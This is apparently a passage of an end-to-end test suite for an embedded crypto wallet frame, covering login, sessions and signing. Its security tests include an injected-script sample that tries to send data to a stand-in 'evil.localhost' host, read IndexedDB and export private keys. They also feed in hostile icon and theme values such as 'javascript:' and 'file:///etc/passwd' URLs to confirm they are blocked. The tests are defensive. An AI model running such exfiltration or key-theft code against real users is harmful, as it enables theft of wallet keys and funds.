import { decodeBase58, encodeBase58 } from '@latchkey/primitives'
import type { Page } from '@playwright/test'
import { createChallenge } from 'altcha-lib'
import { deriveKey } from 'altcha-lib/algorithms/pbkdf2'
import { verifyMessage } from 'viem'
import { describe, expect, it } from 'vitest'
import { openWalletWorld, type Reply } from './wallet-world.fixture.ts'

const world = openWalletWorld()
const text = JSON.stringify
const SOLANA = 'solana:5eykt4UsFv8P8NJdTREpY1vzqKqZKvdp'
let at = 0
const newEmail = () => {
  at += 1
  return `ada${at}@example.org`
}

/** Sends a call, and returns what the frame answered. */
const query = (page: Page, type: string, payload?: unknown) =>
  page.evaluate<Reply>(`site.request(${text(type)}, ${payload === undefined ? 'undefined' : text(payload)})`)

/** Begins a call that waits for a person, and returns its answer later. */
async function begin(page: Page, payload: unknown): Promise<() => Promise<Reply>> {
  const id = crypto.randomUUID()
  await page.evaluate(`site.send({ id: ${text(id)}, type: 'RPC_REQUEST', payload: ${text(payload)} })`)
  return () => page.evaluate<Reply>(`site.reply(${text(id)}, 20000)`)
}

async function press(page: Page, name: 'Approve' | 'Reject') {
  await page.frameLocator('iframe').getByRole('button', { name }).click()
}

async function login(page: Page, email: string) {
  expect(await query(page, 'CONNECT_EMAIL', { email })).toMatchObject({
    type: 'CONNECT_EMAIL_SUCCESS',
    payload: { action: 'VERIFY_OTP' },
  })
  const otp = await world().lastCode(email)
  expect(await query(page, 'CONNECT_OTP', { otp })).toMatchObject({ type: 'CONNECT_OTP_SUCCESS' })
}

async function getUser(page: Page, chainId?: string) {
  const reply = await query(page, 'GET_USER', chainId === undefined ? undefined : { chainId })
  expect(reply.type, text(reply.payload)).toBe('GET_USER_SUCCESS')
  return reply.payload as { readonly address: `0x${string}`; readonly email: string }
}

async function signMessage(page: Page, address: string, message = 'hello') {
  const answer = await begin(page, { method: 'personal_sign', params: [message, address] })
  await press(page, 'Approve')
  const reply = await answer()
  expect(reply.type, text(reply.payload)).toBe('RPC_REQUEST_SUCCESS')
  return reply.payload as `0x${string}`
}

/** Loads the page again, connects it, and lists the calls of auth from then on, preflights aside. */
async function reloadAndWatch(page: Page): Promise<readonly string[]> {
  await page.reload()
  expect(await page.evaluate(`site.connect(${text(world().frame)})`)).toBe('connected')
  await getUser(page)
  const calls: string[] = []
  page.on('request', (request) => {
    const { hostname, pathname } = new URL(request.url())
    if (hostname.startsWith('api.') && request.method() !== 'OPTIONS') calls.push(`${request.method()} ${pathname}`)
  })
  return calls
}

/** Returns why auth ended the newest session; `null` while it is live. */
async function readLastEnd(): Promise<string | null | undefined> {
  const { rows } = await world().database.pool.query<{ readonly end_reason: string | null }>(
    'SELECT end_reason FROM wallet_sessions ORDER BY created_at DESC LIMIT 1',
  )
  return rows[0]?.end_reason
}

async function signedIn() {
  const { newContext, openShop } = world()
  const context = await newContext()
  const page = await openShop(context)
  const email = newEmail()
  await login(page, email)
  const { address } = await getUser(page)
  return { context, page, email, address }
}

describe('the embedded wallet', () => {
  it('signs a new visitor in by a code, makes a wallet, and signs what the visitor approves', async () => {
    const { page, email, address } = await signedIn()
    expect(address).toMatch(/^0x[0-9a-fA-F]{40}$/)
    expect(await query(page, 'IS_CONNECTED')).toMatchObject({ payload: { isConnected: true } })
    const signature = await signMessage(page, address, 'Hello, Ada')
    expect(await verifyMessage({ address, message: 'Hello, Ada', signature })).toBe(true)
    expect((await getUser(page)).email).toBe(email)
    const views = await page.evaluate(
      `site.portMessages.filter(({ type }) => type === 'VIEW_REQUEST').map((each) => each.payload.view)`,
    )
    expect(views).toEqual(['approval', 'none'])
  })
})

describe('the puzzle of a login', () => {
  it('is solved while the person types the address, and is sent with the call that requests the code', async () => {
    const { newContext, openShop, database } = world()
    const page = await openShop(await newContext())
    const sent: string[] = []
    page.on('request', (request) => {
      if (request.url().endsWith('/v1/login/email') && request.method() === 'POST') sent.push(request.postData() ?? '')
    })
    const challenged = page.waitForResponse((response) => response.url().includes('/v1/challenge?'))
    expect(await query(page, 'IS_CONNECTED')).toMatchObject({ payload: { isConnected: false } })
    expect((await challenged).status()).toBe(200)
    await login(page, newEmail())
    const { puzzle } = JSON.parse(sent.at(-1) ?? '{}')
    expect(puzzle.solution.derivedKey).toMatch(/^[0-9a-f]{64}$/)
    const { rowCount } = await database.pool.query('SELECT FROM used_ids WHERE id = $1', [
      `puzzle.${puzzle.challenge.signature}`,
    ])
    expect(rowCount).toBe(1)
  })

  it('leaves the page responsive while a puzzle of the highest level is solved', async () => {
    const { newContext, openShop, frame } = world()
    const context = await newContext()
    const solutions = { hmacSignatureSecret: 'a', hmacKeySignatureSecret: 'b', deriveKey }
    const data = { expiresAt: Date.now() + 600_000, level: 7 }
    const parameters = { algorithm: 'PBKDF2/SHA-256', cost: 1_000, keyLength: 32, counter: 16_383, data }
    const puzzle = await createChallenge({ ...parameters, ...solutions })
    const headers = { 'access-control-allow-origin': new URL(frame).origin }
    await context.route('**/v1/challenge?*', (route) => route.fulfill({ headers, json: { puzzle } }))
    const page = await openShop(context)
    const inside = page.frames().find((each) => each.url().startsWith(frame))
    // Longest delay of a timer of the page, measured from before the puzzle arrives.
    const late = inside?.evaluate(async () => {
      let longest = 0
      for (const end = performance.now() + 2_500; performance.now() < end; ) {
        const start = performance.now()
        await new Promise((resolve) => setTimeout(resolve, 5))
        longest = Math.max(longest, performance.now() - start - 5)
      }
      return longest
    })
    const challenged = page.waitForResponse((response) => response.url().includes('/v1/challenge?'))
    await query(page, 'IS_CONNECTED')
    await challenged
    expect(await late).toBeLessThan(400)
  })
})

/** Texts that could be tokens: base64url of 16 bytes or more, other than hexadecimal, ids, addresses and names. */
const listTokens = (seen: string): readonly string[] =>
  (seen.match(/[\w-]{22,}/g) ?? []).filter(
    (each) =>
      !/^(?:0x)?[0-9a-f-]+$/i.test(each) && !/^[A-Z_]+$/.test(each) && !/^[1-9A-HJ-NP-Za-km-z]{32,44}$/.test(each),
  )

describe('a page with the embedded wallet', () => {
  it('X79: finds no token in a message, in its storage or in its address', async () => {
    const { page, address } = await signedIn()
    await signMessage(page, address)
    await query(page, 'GET_DEVICES')
    await query(page, 'RPC_REQUEST', { method: 'eth_accounts', params: [] })
    await query(page, 'SIGN_OUT')
    const seen = await page.evaluate<string>(`JSON.stringify([
      site.portMessages, site.windowMessages.map(({ data }) => data), { ...localStorage }, { ...sessionStorage },
      document.cookie, location.href, site.frame.src, performance.getEntriesByType('resource').map(({ name }) => name),
    ])`)
    expect(seen).toContain(address)
    expect(listTokens(`{"token":"${'Zm9v-_'.repeat(7)}"}`)).toHaveLength(1)
    expect(listTokens(seen)).toEqual([])
  })
})

/** A sign-in message of the shop, as its connector sends it. */
function signInOf(shop: string, changes: object = {}) {
  const page = { domain: new URL(shop).host, uri: `${shop}/`, version: '1', nonce: 'k3jd83jd9s' }
  return { ...page, accountAddress: '', chainId: 'eip155:1', issuedAt: new Date().toISOString(), ...changes }
}

describe('a login of the embedded wallet', () => {
  it('signs the sign-in message of its page once, without a screen', async () => {
    const { newContext, openShop, shop } = world()
    const page = await openShop(await newContext())
    await login(page, newEmail())
    const params = { chainId: 'eip155:1', signInMessage: signInOf(shop) }
    const replies = await Promise.all([query(page, 'GET_USER', params), query(page, 'GET_USER', params)])
    const signed = replies.filter(({ payload }) => Object.hasOwn(payload as object, 'signature'))
    expect(signed.length, text(replies)).toBe(1)
    const [{ address, message, signature }] = signed.map(({ payload }) => payload as unknown as Signed) as [Signed]
    expect(message).toContain(address)
    expect(await verifyMessage({ address, message, signature })).toBe(true)
    expect(await page.evaluate(`site.portMessages.some(({ type }) => type === 'VIEW_REQUEST')`)).toBe(false)
  })

  it('X35: signs no message of another page, and none afterwards', async () => {
    const { newContext, openShop, shop } = world()
    const page = await openShop(await newContext())
    await login(page, newEmail())
    for (const changes of [{ domain: 'bank.example', uri: 'https://bank.example/' }, {}]) {
      const { type, payload } = await query(page, 'GET_USER', { signInMessage: signInOf(shop, changes) })
      expect(type).toBe('GET_USER_SUCCESS')
      expect(payload).not.toHaveProperty('signature')
    }
  })

  it('X35: signs nothing on a later visit, or after signing out', async () => {
    const { newContext, openShop, shop, frame } = world()
    const page = await openShop(await newContext())
    await login(page, newEmail())
    await page.reload()
    await page.evaluate(`site.connect(${text(frame)})`)
    const later = await query(page, 'GET_USER', { signInMessage: signInOf(shop) })
    expect(later.payload).toHaveProperty('address')
    expect(later.payload).not.toHaveProperty('signature')
    const { payload } = await query(await signedOutShop(), 'GET_USER', { signInMessage: signInOf(shop) })
    expect(payload).toMatchObject({ code: 'session/expired' })
  })
})

interface Signed {
  readonly address: `0x${string}`
  readonly message: string
  readonly signature: `0x${string}`
}

async function signedOutShop(): Promise<Page> {
  const { newContext, openShop } = world()
  const page = await openShop(await newContext())
  await login(page, newEmail())
  await query(page, 'SIGN_OUT')
  return page
}

describe('a session of the embedded wallet', () => {
  it('refuses a wrong code, and takes the right one after it', async () => {
    const { newContext, openShop, lastCode } = world()
    const page = await openShop(await newContext())
    const email = newEmail()
    expect(await query(page, 'CONNECT_OTP', { otp: '123456' })).toMatchObject({
      payload: { code: 'email/invalid-code' },
    })
    await query(page, 'CONNECT_EMAIL', { email })
    const otp = await lastCode(email)
    const wrong = otp === '000000' ? '000001' : '000000'
    expect(await query(page, 'CONNECT_OTP', { otp: wrong })).toMatchObject({ payload: { code: 'email/invalid-code' } })
    expect(await query(page, 'IS_CONNECTED')).toMatchObject({ payload: { isConnected: false } })
    expect(await query(page, 'CONNECT_OTP', { otp })).toMatchObject({ type: 'CONNECT_OTP_SUCCESS' })
    await query(page, 'SIGN_OUT')
    expect(await query(page, 'CONNECT_EMAIL', { email })).toMatchObject({ payload: { code: 'email/throttled' } })
  })

  it('goes on after the page is loaded again: same address, and it signs', async () => {
    const { page, address } = await signedIn()
    await page.reload()
    expect(await page.evaluate(`site.connect(${text(world().frame)})`)).toBe('connected')
    expect(await query(page, 'IS_CONNECTED')).toMatchObject({ payload: { isConnected: true } })
    expect((await getUser(page)).address).toBe(address)
    const signature = await signMessage(page, address)
    expect(await verifyMessage({ address, message: 'hello', signature })).toBe(true)
  })

  it('continues without a code for its own address, and ends when another address logs in', async () => {
    const { page, email, address } = await signedIn()
    await page.reload()
    await page.evaluate(`site.connect(${text(world().frame)})`)
    expect(await query(page, 'CONNECT_EMAIL', { email: email.toUpperCase() })).toMatchObject({
      payload: { action: 'CONNECT' },
    })
    expect((await getUser(page)).address).toBe(address)
    expect(await query(page, 'CONNECT_EMAIL', { email: 'ada@example' })).toMatchObject({
      payload: { code: 'mail/invalid-address' },
    })
    expect((await getUser(page)).email, 'a login that does not begin ends nothing').toBe(email)
    const other = newEmail()
    await login(page, other)
    const user = await getUser(page)
    expect(user.email).toBe(other)
    expect(user.address).not.toBe(address)
  })

  it('is shared by tabs, which renew its tokens one after the other', async () => {
    const { context, page, address } = await signedIn()
    const other = await world().openShop(context)
    expect((await getUser(other)).address).toBe(address)
    // As if ten minutes had passed for both.
    const inner = page.frames().find((frame) => frame.url().startsWith(world().frame))
    await inner?.evaluate(`new Promise((resolve, reject) => {
      const opening = indexedDB.open('latchkey-frame/shop')
      opening.onsuccess = () => {
        const store = opening.result.transaction('values', 'readwrite').objectStore('values')
        const key = 'session/' + ${text(world().shop)}
        store.get(key).onsuccess = ({ target }) => {
          store.put({ ...target.result, expiresAt: 0 }, key).onsuccess = () => { opening.result.close(); resolve() }
        }
      }
      opening.onerror = reject
    })`)
    const replies = await Promise.all([page, other, page, other].map((each) => query(each, 'IS_CONNECTED')))
    for (const reply of replies) expect(reply).toMatchObject({ payload: { isConnected: true } })
    const signature = await signMessage(other, address)
    expect(await verifyMessage({ address, message: 'hello', signature })).toBe(true)
  })

  it('ends when the visitor signs out, also without a network', async () => {
    for (const isOffline of [false, true]) {
      const { context, page, address } = await signedIn()
      await context.setOffline(isOffline)
      const start = performance.now()
      expect(await query(page, 'SIGN_OUT')).toMatchObject({ type: 'SIGN_OUT_SUCCESS' })
      expect(performance.now() - start).toBeLessThan(3_000)
      expect(await query(page, 'IS_CONNECTED')).toMatchObject({ payload: { isConnected: false } })
      const refused = { method: 'personal_sign', params: ['hello', address] }
      expect(await query(page, 'RPC_REQUEST', refused)).toMatchObject({ payload: { code: 'session/expired' } })
      const ended = await page.evaluate(`site.portMessages.find(({ type }) => type === 'SESSION_ENDED').payload.reason`)
      expect(ended).toBe('signed-out')
    }
  })

  it('X76: ends at auth once the browser is online again, if the visitor signed out offline', async () => {
    const { context, page } = await signedIn()
    await context.setOffline(true)
    expect(await query(page, 'SIGN_OUT')).toMatchObject({ type: 'SIGN_OUT_SUCCESS' })
    expect(await query(page, 'GET_USER')).toMatchObject({ payload: { code: 'session/expired' } })
    expect(await readLastEnd()).toBe(null)
    await context.setOffline(false)
    await expect.poll(() => readLastEnd()).toBe('signed-out')
  })

  it('X76: ends at auth when the frame is loaded again, if the visitor signed out offline and closed the page', async () => {
    const { context, page } = await signedIn()
    await context.setOffline(true)
    expect(await query(page, 'SIGN_OUT')).toMatchObject({ type: 'SIGN_OUT_SUCCESS' })
    await page.close()
    await context.setOffline(false)
    expect(await readLastEnd()).toBe(null)
    const again = await world().openShop(context)
    expect(await query(again, 'IS_CONNECTED')).toMatchObject({ payload: { isConnected: false } })
    await expect.poll(() => readLastEnd()).toBe('signed-out')
  })

  it('is listed with its device, and ends on all devices at once', async () => {
    const { page, email } = await signedIn()
    const { payload } = await query(page, 'GET_DEVICES')
    expect(payload).toMatchObject({ email, hasRecovery: false, sessions: [{ origin: world().shop, isCurrent: true }] })
    const sessionId = crypto.randomUUID()
    expect(await query(page, 'END_SESSION', { sessionId })).toMatchObject({ payload: { code: 'embedded/not-found' } })
    expect(await query(page, 'END_ALL_SESSIONS')).toMatchObject({ type: 'END_ALL_SESSIONS_SUCCESS' })
    expect(await query(page, 'IS_CONNECTED')).toMatchObject({ payload: { isConnected: false } })
    expect(await query(page, 'GET_DEVICES')).toMatchObject({ payload: { code: 'session/expired' } })
  })

  it('X77: signs nothing after its session was ended elsewhere, although the wallet is unlocked', async () => {
    const { page, address } = await signedIn()
    await signMessage(page, address)
    const { payload } = await query(page, 'GET_DEVICES')
    const [own] = (payload as { readonly sessions: readonly { readonly sessionId: string }[] }).sessions
    expect(await query(page, 'END_SESSION', { sessionId: own?.sessionId })).toMatchObject({
      type: 'END_SESSION_SUCCESS',
    })
    const answer = await begin(page, { method: 'personal_sign', params: ['hello', address] })
    await press(page, 'Approve')
    expect(await answer()).toMatchObject({ payload: { code: 'session/expired' } })
  })

  it('X77: signs nothing if its session was ended elsewhere while the card was shown, and keeps the wallet locked', async () => {
    const { page, address } = await signedIn()
    const calls = await reloadAndWatch(page)
    const answer = await begin(page, { method: 'personal_sign', params: ['hello', address] })
    await expect.poll(() => calls).toContain('POST /v1/vault/unlock')
    await world().database.pool.query('UPDATE wallet_sessions SET ended_at = now() WHERE ended_at IS NULL')
    await press(page, 'Approve')
    expect(await answer()).toMatchObject({ payload: { code: 'session/expired' } })
  })

  it('signs nothing after an operator has stopped the project, although the wallet is unlocked, and signs again after the start', async () => {
    const { page, address } = await signedIn()
    await signMessage(page, address)
    const { pool } = world().database
    await pool.query(
      `INSERT INTO wallet_stops (project, stopped_at, operator, reason) SELECT DISTINCT project, now(), 'ada', 'a test' FROM wallet_devices`,
    )
    try {
      const answer = await begin(page, { method: 'personal_sign', params: ['hello', address] })
      await press(page, 'Approve')
      expect(await answer()).toMatchObject({ payload: { code: 'embedded/stopped' } })
    } finally {
      await pool.query('DELETE FROM wallet_stops')
    }
    await signMessage(page, address)
  })

  it('requests the half of auth while the person reads, checks the session after the approval, and drops the half on a rejection', async () => {
    const { page, address } = await signedIn()
    const calls = await reloadAndWatch(page)
    const unlocks = () => calls.filter((call) => call === 'POST /v1/vault/unlock').length
    const rejected = await begin(page, { method: 'personal_sign', params: ['hello', address] })
    await expect.poll(unlocks).toBe(1)
    await press(page, 'Reject')
    expect(await rejected()).toMatchObject({ payload: { code: 'wallet/rejected' } })
    await signMessage(page, address)
    expect(unlocks()).toBe(2)
    const later = await reloadAndWatch(page)
    const answer = await begin(page, { method: 'personal_sign', params: ['hello', address] })
    await expect.poll(() => later).toContain('POST /v1/vault/unlock')
    const before = later.length
    await press(page, 'Approve')
    expect(await answer()).toMatchObject({ type: 'RPC_REQUEST_SUCCESS' })
    expect(later.slice(before)).toEqual(['GET /v1/session'])
  })

  it('refuses to forget the only device that can open the wallet', async () => {
    const { page, address } = await signedIn()
    expect(await query(page, 'FORGET_DEVICE')).toMatchObject({ payload: { code: 'embedded/no-custody' } })
    const signature = await signMessage(page, address)
    expect(await verifyMessage({ address, message: 'hello', signature })).toBe(true)
  })

  it('X05: is kept under the origin of its page, so that no other one continues it', async () => {
    const { page } = await signedIn()
    const inner = page.frames().find((frame) => frame.url().startsWith(world().frame))
    const keys = await inner?.evaluate(`new Promise((resolve) => {
      const opening = indexedDB.open('latchkey-frame/shop')
      opening.onsuccess = () => {
        opening.result.transaction('values').objectStore('values').getAllKeys().onsuccess = ({ target }) => resolve(target.result)
      }
    })`)
    expect(keys).toEqual(['page-key', `session/${world().shop}`])
  })

  it('X88: is not made where the browser keeps nothing and nobody else has a half', async () => {
    const { newContext, openShop } = world()
    const context = await newContext()
    await context.addInitScript(
      `Object.defineProperty(self, 'indexedDB', { get() { throw new DOMException('denied', 'SecurityError') } })`,
    )
    const page = await openShop(context)
    await login(page, newEmail())
    expect(await query(page, 'GET_USER')).toMatchObject({ payload: { code: 'embedded/unsupported-storage' } })
    await page.reload()
    await page.evaluate(`site.connect(${text(world().frame)})`)
    expect(await query(page, 'IS_CONNECTED')).toMatchObject({ payload: { isConnected: false } })
  })

  it('X91: shows the addresses that its device derived, also when the database of auth has others', async () => {
    const { page, address } = await signedIn()
    const eve = '0x70997970C51812dc3A010C7d01b50e0d17dc79C8'
    const { database, shop, frame } = world()
    const changed = await database.pool.query(
      `UPDATE wallet_wallets SET vault = replace(vault::text, $1, $2)::jsonb WHERE vault::text LIKE '%' || $1 || '%'`,
      [address, eve],
    )
    expect(changed.rowCount).toBe(1)
    await page.goto(shop)
    await page.evaluate(`site.connect(${text(frame)})`)
    expect((await getUser(page)).address).toBe(address)
    expect(await query(page, 'RPC_REQUEST', { method: 'eth_accounts', params: [] })).toMatchObject({
      payload: [address],
    })
  })

  it('X89: of a browser that lost its storage is a new device, which gets no code before it is approved', async () => {
    const { email } = await signedIn()
    const { newContext, openShop } = world()
    const page = await openShop(await newContext())
    // The next mail to the same address may go out half a minute later; what decides about a new device comes before that.
    expect(await query(page, 'CONNECT_EMAIL', { email })).toMatchObject({ payload: { action: 'VERIFY_DEVICE' } })
    expect(await query(page, 'CONNECT_DEVICE')).toMatchObject({ payload: { code: 'frame/unsupported-action' } })
    expect(await query(page, 'CONNECT_OTP', { otp: '123456' })).toMatchObject({
      payload: { code: 'email/invalid-code' },
    })
  })
})

/** Attempts of an injected script. The result of each is the CSP directive that blocked it, or `open`. */
const INTRUDER = `(async () => {
  const evil = 'http://evil.localhost:1'
  const append = (name, given) => document.head.append(Object.assign(document.createElement(name), given))
  const tries = {
    fetch: () => fetch(evil, { mode: 'no-cors' }),
    beacon: () => navigator.sendBeacon(evil, 'x'),
    socket: () => new WebSocket('ws://evil.localhost:1'),
    image: () => append('img', { src: evil }),
    frame: () => append('iframe', { src: evil }),
    form: () => {
      append('form', { action: evil, target: '_blank', id: 'form' })
      document.querySelector('#form').requestSubmit()
    },
    script: () => append('script', { src: evil }),
    worker: () => new Worker(URL.createObjectURL(new Blob(['1']))),
    markup: () => document.body.insertAdjacentHTML('beforeend', '<b>1</b>'),
    style: () => append('style', { textContent: 'body { display: none }' }),
    base: () => append('base', { href: evil }),
  }
  const outcomes = {}
  for (const [name, attempt] of Object.entries(tries)) {
    const stopped = new Promise((resolve) => {
      document.addEventListener('securitypolicyviolation', ({ effectiveDirective }) => resolve(effectiveDirective), { once: true })
      setTimeout(() => resolve('open'), 1_000)
    })
    await Promise.resolve().then(attempt).catch(() => undefined)
    outcomes[name] = await stopped
  }
  const vault = document.querySelector('iframe[title="Keys"]')
  const refused = []
  for (const read of [() => vault.contentWindow.document, () => vault.contentWindow.localStorage])
    try { read(); refused.push('open') } catch (error) { refused.push(error.name) }
  const kept = []
  const until = (request) => new Promise((resolve) => { request.onsuccess = () => resolve(request.result) })
  for (const { name } of await indexedDB.databases()) {
    const database = await until(indexedDB.open(name))
    for (const store of database.objectStoreNames)
      kept.push(...(await until(database.transaction(store).objectStore(store).getAll())))
    database.close()
  }
  const secrets = kept.map((value) => value.privateKey).filter((key) => key !== undefined)
  const exported = await Promise.all(secrets.map((key) => crypto.subtle.exportKey('jwk', key).then(() => 'open', ({ name }) => name)))
  // Sends operations to the vault without the port of the handshake.
  const answers = []
  const { port1, port2 } = new MessageChannel()
  port1.onmessage = ({ data }) => answers.push(data)
  addEventListener('message', ({ data }) => answers.push(data))
  const hello = { type: '@latchkey/VAULT_HELLO', version: 1, projectId: 'shop', vaultNonce: crypto.randomUUID(), frameNonce: crypto.randomUUID() }
  vault.contentWindow.postMessage(hello, '*', [port2])
  for (const op of ['STATUS', 'SIGN', 'UNLOCK', 'CREATE', 'RECOVER', 'EXPORT']) {
    vault.contentWindow.postMessage({ id: crypto.randomUUID(), op }, '*')
    port1.postMessage({ id: crypto.randomUUID(), op })
  }
  await new Promise((resolve) => setTimeout(resolve, 500))
  return { outcomes, refused, exported, answers }
})()`

describe('the picture of a person on the card', () => {
  it('stays the same over requests and reloads, can be changed, and is not readable by the site', async () => {
    const { page, address } = await signedIn()
    const frame = page.frameLocator('iframe')
    const label = () => frame.locator('.picture').getAttribute('aria-label')
    const first = await begin(page, { method: 'personal_sign', params: ['one', address] })
    const chosen = await label()
    expect(chosen).toMatch(/^Your picture: [a-z]+ [a-z]+, [a-z]+\. Change it$/)
    await expect.poll(() => frame.locator('.picture-note').isVisible()).toBe(true)
    const network = frame.locator('.network-picture')
    await expect.poll(() => network.evaluate((image: HTMLImageElement) => image.naturalWidth)).toBeGreaterThan(0)
    await press(page, 'Reject')
    await first()

    const second = await begin(page, { method: 'personal_sign', params: ['two', address] })
    expect(await label()).toBe(chosen)
    expect(await frame.locator('.picture-note').count()).toBe(0)
    await frame.locator('.picture').click()
    await frame.getByRole('radio', { name: 'tent' }).check({ force: true })
    await frame.getByRole('radio', { name: 'red' }).check({ force: true })
    await frame.getByRole('textbox', { name: 'Word' }).fill('river')
    await frame.getByRole('button', { name: 'Save' }).click()
    expect(await label()).toBe('Your picture: red tent, river. Change it')
    await press(page, 'Approve')
    expect((await second()).type).toBe('RPC_REQUEST_SUCCESS')

    await page.reload()
    expect(await page.evaluate(`site.connect(${text(world().frame)})`)).toBe('connected')
    const third = await begin(page, { method: 'personal_sign', params: ['three', address] })
    expect(await label()).toBe('Your picture: red tent, river. Change it')
    await press(page, 'Reject')
    await third()
    expect(await page.evaluate('JSON.stringify(site.portMessages)')).not.toContain('river')
  })

  it('closes its dialog on Escape without rejecting the request', async () => {
    const { page, address } = await signedIn()
    const frame = page.frameLocator('iframe')
    const answer = await begin(page, { method: 'personal_sign', params: ['hello', address] })
    await frame.locator('.picture').click()
    await frame.getByRole('textbox', { name: 'Word' }).press('Escape')
    await expect.poll(() => frame.getByRole('dialog', { name: 'Your picture and word' }).count()).toBe(0)
    await press(page, 'Approve')
    expect((await answer()).type).toBe('RPC_REQUEST_SUCCESS')
  })
})

describe('a script that got into the frame', () => {
  it('X82: reaches no key, no vault without its port, and no other host', async () => {
    const { page } = await signedIn()
    const frame = page.frames().find((each) => each.url().startsWith(world().frame))
    expect(await frame?.evaluate(INTRUDER)).toEqual({
      outcomes: {
        ...{ fetch: 'connect-src', beacon: 'connect-src', socket: 'connect-src', image: 'img-src', frame: 'frame-src' },
        ...{ form: 'form-action', script: 'require-trusted-types-for', worker: 'require-trusted-types-for' },
        ...{ markup: 'require-trusted-types-for', style: 'style-src-elem', base: 'base-uri' },
      },
      refused: ['SecurityError', 'SecurityError'],
      exported: ['InvalidAccessError'],
      answers: [],
    })
  })
})

/** Returns the computed styles of the sentence, the origin and the buttons of the card. */
const readLook = (page: Page) =>
  page
    .frameLocator('iframe')
    .getByRole('dialog')
    .evaluate(async (card) => {
      await Promise.all(document.getAnimations().map(({ finished }) => finished.catch(() => undefined)))
      return ['.lead-text', '.site-origin', '.card-approve', '.card-reject'].map((part) => {
        const element = card.querySelector(part)
        if (element === null) return part
        const { color, backgroundColor, fontSize, opacity, visibility, display } = getComputedStyle(element)
        return { part, color, backgroundColor, fontSize, opacity, visibility, display }
      })
    })

describe('a page that describes itself', () => {
  it('X32: gets no name that belongs to another site: the card shows its origin', async () => {
    const { page, address } = await signedIn()
    const card = page.frameLocator('iframe').getByRole('dialog')
    const describe = (url: string) => ({ name: 'Meridian Bank', description: '', url, icons: [] })
    for (const [url, isShown] of [
      ['https://meridian-bank.example', false],
      [world().shop, true],
    ] as const) {
      await query(page, 'SYNC_DAPP_DATA', { projectId: 'shop', metadata: describe(url) })
      const answer = await begin(page, { method: 'personal_sign', params: ['hello', address] })
      const text = await card.textContent()
      expect(text).toContain(new URL(world().shop).host)
      expect(text?.includes('Meridian Bank'), url).toBe(isShown)
      await press(page, 'Reject')
      await answer()
    }
  })

  it('X28: cannot make the card load an icon, and is refused when an icon address is not an https address', async () => {
    const { page, address } = await signedIn()
    const requested: string[] = []
    page.on('request', (request) => requested.push(request.url()))
    const metadata = (icon: string) => ({ name: 'Shop', description: '', url: world().shop, icons: [icon] })
    for (const icon of ['javascript:alert(1)', 'data:text/html,1', 'data:image/svg+xml,<svg/>', 'file:///etc/passwd'])
      expect(await query(page, 'SYNC_DAPP_DATA', { projectId: 'shop', metadata: metadata(icon) })).toMatchObject({
        payload: { code: 'frame/invalid-message' },
      })
    for (const icon of ['https://10.0.0.1/i.png', 'https://evil.example/i.svg'])
      expect((await query(page, 'SYNC_DAPP_DATA', { projectId: 'shop', metadata: metadata(icon) })).type).toBe(
        'SYNC_DAPP_DATA_SUCCESS',
      )
    const answer = await begin(page, { method: 'personal_sign', params: ['hello', address] })
    await expect.poll(() => page.frameLocator('iframe').getByRole('dialog').count()).toBe(1)
    // The build chooses the picture of the network; a card has no other.
    const pictures = page.frameLocator('iframe').locator('img')
    expect(await pictures.evaluateAll((all) => all.map((each) => each.getAttribute('src')))).toEqual([
      expect.stringMatching(/^\/assets\/network-[\da-f]{16}\.svg$/),
    ])
    await press(page, 'Reject')
    await answer()
    expect(requested.filter((url) => /10\.0\.0\.1|evil/.test(url))).toEqual([])
  })

  it('X33: can only choose between light and dark; other theme values do not change the card', async () => {
    const { page, address } = await signedIn()
    const hostile = { '--lk-text': 'transparent', '--lk-accent': '#0000', '--lk-font-size': '90px', opacity: 0 }
    const looks: unknown[] = []
    for (const themeVariables of [{}, hostile]) {
      await query(page, 'SYNC_THEME', { themeMode: 'light', themeVariables })
      const answer = await begin(page, { method: 'personal_sign', params: ['hello', address] })
      await expect
        .poll(() => page.frameLocator('iframe').getByRole('button', { name: 'Approve' }).isEnabled())
        .toBe(true)
      looks.push(await readLook(page))
      // Pressed by a key, because a button under the pointer has its hover style.
      await page.frameLocator('iframe').getByRole('button', { name: 'Reject' }).press('Enter')
      await answer()
    }
    expect(looks[1]).toEqual(looks[0])
    for (const value of ['url(https://evil.example)', 'red;}body{display:none', 'expression(1)'])
      expect(await query(page, 'SYNC_THEME', { themeVariables: { '--lk-accent': value } })).toMatchObject({
        payload: { code: 'frame/invalid-message' },
      })
  })
})

describe('requests for the embedded wallet', () => {
  it('are answered for the account of the session: accounts, chain, and signatures of Solana', async () => {
    const { page, address } = await signedIn()
    const rpc = async (method: string, params: unknown = [], chainId = 'eip155:8453') =>
      (await query(page, 'RPC_REQUEST', { method, params, chainId })).payload
    expect(await rpc('eth_chainId')).toBe('0x2105')
    expect(await rpc('eth_accounts')).toEqual([address])
    const solana = (await getUser(page, SOLANA)).address as string
    expect(await rpc('solana_getAccounts', {}, SOLANA)).toEqual([{ pubkey: solana }])
    const message = new TextEncoder().encode('hello')
    const params = { message: encodeBase58(message), pubkey: solana }
    const answer = await begin(page, { method: 'solana_signMessage', params, chainId: SOLANA })
    await press(page, 'Approve')
    const { signature } = (await answer()).payload as { readonly signature: string }
    const key = await crypto.subtle.importKey('raw', Uint8Array.from(decodeBase58(solana)), 'Ed25519', false, [
      'verify',
    ])
    expect(await crypto.subtle.verify('Ed25519', key, Uint8Array.from(decodeBase58(signature)), message)).toBe(true)
  })

  it('are approved by a tap of a finger', async () => {
    const { newContext, openShop } = world()
    const page = await openShop(await newContext({ hasTouch: true }))
    await login(page, newEmail())
    const { address } = await getUser(page)
    const answer = await begin(page, { method: 'personal_sign', params: ['hello', address] })
    await page.frameLocator('iframe').getByRole('button', { name: 'Approve' }).tap()
    expect((await answer()).type).toBe('RPC_REQUEST_SUCCESS')
  })

  it('are not signed when the person rejects them, the page takes them back, or nobody pressed', async () => {
    const { page, address } = await signedIn()
    const call = { method: 'personal_sign', params: ['hello', address] }
    const rejected = await begin(page, call)
    await press(page, 'Reject')
    expect(await rejected()).toMatchObject({ payload: { code: 'wallet/rejected' } })
    const id = crypto.randomUUID()
    await page.evaluate(`site.send({ id: ${text(id)}, type: 'RPC_REQUEST', payload: ${text(call)} })`)
    const button = page.frameLocator('iframe').getByRole('button', { name: 'Approve' })
    // Script of a page presses a button; a person did not.
    await button.evaluate((element) => (element as unknown as { click(): void }).click())
    expect(await button.count()).toBe(1)
    await query(page, 'RPC_ABORT', { id })
    expect(await page.evaluate(`site.reply(${text(id)})`)).toMatchObject({ payload: { code: 'frame/aborted' } })
    expect(await button.count()).toBe(0)
  })

